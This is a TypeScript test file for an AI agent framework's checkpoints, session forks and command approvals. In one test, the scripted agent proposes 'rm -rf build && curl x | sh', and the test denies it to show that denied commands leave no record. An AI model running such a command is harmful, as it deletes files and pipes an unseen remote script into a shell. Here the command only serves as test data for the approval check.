import { expect, test } from "vitest";
import * as z from "zod";
import { defineTool } from "../../../src/core/ports/tool.ts";
import { call, type Turn } from "../../fakes/scriptedProvider.ts";
import { sessionsSpawn } from "../../../src/tools/index.ts";
import { type Bench, nextEvent, openBench } from "../bench.ts";
import { keyOf, rest, scripts, spawn } from "../runs/subagentBench.ts";

const origin = { via: "api" as const };

/** Asks, and does nothing. */
const exec = defineTool({
  name: "exec",
  description: "Runs a command.",
  input: z.strictObject({ command: z.string() }),
  effect: "exec",
  approval: async ({ command }) => ({
    summary: command,
    subject: { type: "other", text: command },
    reason: "runs a command",
    safe: false,
    protected: false,
    effects: [{ kind: "run", place: command }],
  }),
  run: async () => ({ text: "done" }),
});

const command = (text: string): ReturnType<typeof call> => call("exec", { command: text }, text);

async function open(turns: Turn[]): Promise<Bench> {
  return await openBench({ tools: [exec], turns });
}

/** Sends it, and answers each question by its command. */
async function send({ core }: Bench, answers: Record<string, "allow" | "deny">): Promise<void> {
  const listening = core.events.on((event) => {
    if (event.type !== "approval.asked") return;
    const { id, summary } = event.approval;
    const answer = answers[summary];
    if (answer) void core.approvals.answer(id, answer, "test");
  });
  const run = await core.sessions.send({ text: "build", origin, sessionKey: "main" });
  await run.outcome;
  listening.dispose();
}

const before = async ({ core }: Bench, dryRun = true) =>
  await core.checkpoints.restore({
    sessionKey: "main",
    to: { beforeSeq: 0 },
    ...{ files: true, messages: false, force: false, dryRun },
  });

test("a command that was denied is not named: it changed nothing", async () => {
  const bench = await open([[command("make"), command("rm -rf build && curl x | sh")], ["done"]]);
  await send(bench, { make: "allow", "rm -rf build && curl x | sh": "deny" });
  expect((await before(bench)).commands).toEqual(["make"]);
  expect((await bench.core.checkpoints.list("main")).map(({ commands }) => commands)).toEqual([["make"]]);
});

test("a run whose commands were all denied is no point to go back to", async () => {
  const bench = await open([[command("make")], ["done"]]);
  await send(bench, { make: "deny" });
  expect((await before(bench)).commands).toEqual([]);
  expect(await bench.core.checkpoints.list("main")).toEqual([]);
});

test("what goes on from before a message is called a fork, of whatever name its session has", async () => {
  const { core } = await openBench({ turns: [["One"], ["Two"]] });
  const titles: (string | undefined)[] = [];
  for (const request of [{ sessionKey: "main" }, { label: "Plans" }]) {
    const run = await core.sessions.send({ ...request, text: "Hello", origin });
    await run.outcome;
    const { sessionKey } = await core.checkpoints.restore({
      sessionKey: run.sessionKey,
      to: { beforeSeq: 0 },
      ...{ files: false, messages: true, force: false, dryRun: false },
    });
    titles.push((await core.sessions.get(sessionKey!)).title);
  }
  expect(titles).toEqual(["Main (fork)", "Plans (fork)"]);
});

test("forks of one session, and of its forks, are told apart by a number; a name that is free again is used", async () => {
  const { core } = await openBench({ turns: [["One"], ["Two"]] });
  const run = await core.sessions.send({ sessionKey: "main", text: "Hello", origin });
  await run.outcome;
  const fork = async (key: string) => await core.sessions.fork(key, {});
  const [first, second] = [await fork("main"), await fork("main")];
  const third = await fork(first.key);
  expect([first, second, third].map(({ title }) => title)).toEqual(["Main (fork)", "Main (fork 2)", "Main (fork 3)"]);
  await core.sessions.delete(second.key);
  expect((await fork("main")).title).toBe("Main (fork 2)");
  const long = await core.sessions.create({ title: "Harbour ".repeat(24).trim() });
  const names = [(await fork(long.key)).title!, (await fork(long.key)).title!];
  expect(names.map((name) => name.replace(/^.* \(/, ""))).toEqual(["fork)", "fork 2)"]);
});

test("while a session, or its sub-agent, is at work a look says so, and names no command that waits for its answer", async () => {
  const gate = Promise.withResolvers<void>();
  const turns = scripts({ build: [[command("make"), spawn("Dig")], ["done"]], Dig: [[{ wait: gate.promise }, "dug"]] });
  const bench = await openBench({ tools: [exec, sessionsSpawn], turns });
  const asked = nextEvent(bench.core, "approval.asked");
  const run = await bench.core.sessions.send({ text: "build", origin, sessionKey: "main" });
  await asked;
  expect(await before(bench)).toMatchObject({ atWork: "main", commands: [] });
  await expect(before(bench, false)).rejects.toThrow("This session is at work; stop it before you go back");
  for (const { id } of await bench.core.approvals.list("main")) await bench.core.approvals.answer(id, "allow", "test");
  await run.outcome;
  expect(await before(bench)).toMatchObject({ atWork: await keyOf(bench, "Dig"), commands: ["make"] });
  await expect(before(bench, false)).rejects.toThrow('Its sub-agent "Dig" is at work; stop it before you go back');
  gate.resolve();
  await rest(bench);
  expect((await before(bench)).atWork).toBeUndefined();
});

test("what a fork shows of its session is not its own to put back, and that is said", async () => {
  const bench = await open([[command("make")], ["done"], ["and on"]]);
  await send(bench, { make: "allow" });
  const { key } = await bench.core.sessions.fork("main", {});
  const look = async (beforeSeq: number) =>
    await bench.core.checkpoints.restore({
      sessionKey: key,
      to: { beforeSeq },
      ...{ files: true, messages: false, force: false, dryRun: true },
    });
  const why = "what was done before this session was forked: it is put back in the session that it is a fork of";
  expect((await look(0)).unseen).toEqual([why]);
  expect((await before(bench)).unseen).toEqual([]);
  const run = await bench.core.sessions.send({ text: "on", origin, sessionKey: key });
  await run.outcome;
  const { messages } = await bench.core.sessions.history(key, { limit: 50, includeTools: false });
  expect((await look(messages.findLast(({ role }) => role === "user")!.seq)).unseen).toEqual([]);
});
